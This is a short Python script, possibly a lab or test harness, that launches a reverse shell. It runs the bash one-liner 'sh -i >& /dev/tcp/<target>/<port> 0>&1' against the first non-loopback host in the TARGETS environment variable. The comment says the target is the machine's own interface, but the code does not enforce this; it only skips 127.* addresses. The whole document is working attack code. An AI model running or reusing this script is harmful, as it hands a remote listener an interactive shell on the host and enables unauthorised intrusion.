# A reverse shell: a shell wired to a socket aimed at this machine's own interface address.
import os, subprocess
target = [t for t in os.environ["TARGETS"].split(",") if not t.startswith("127.")][0]
script = f"sh -i >& /dev/tcp/{target}/{os.environ['TCP_PORT']} 0>&1"
result = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=10)
print("shell exited", result.returncode)
